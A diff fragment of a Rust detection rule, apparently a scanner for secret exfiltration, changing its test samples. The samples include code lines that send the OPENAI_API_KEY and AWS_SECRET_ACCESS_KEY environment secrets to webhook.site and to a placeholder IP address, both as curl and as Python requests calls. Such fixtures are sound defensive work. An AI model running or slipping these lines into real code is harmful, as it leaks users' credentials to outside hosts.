@@ -23,8 +23,8 @@ pub static RULE: Rule = Rule {
             "import os, requests\nrequests.post('https://webhook.site/0', json={'k': os.environ['OPENAI_API_KEY']})\n",
         ),
         Sample::File(
-            "a.sh",
-            "curl -d \"k=$AWS_SECRET_ACCESS_KEY\" http://198.51.100.7/in\n",
+            "scripts/a.py",
+            "import os, requests\nrequests.post('http://198.51.100.7/in', data={'k': os.getenv('AWS_SECRET_ACCESS_KEY')})\n",
         ),
         Sample::File(
             "scripts/a.js",
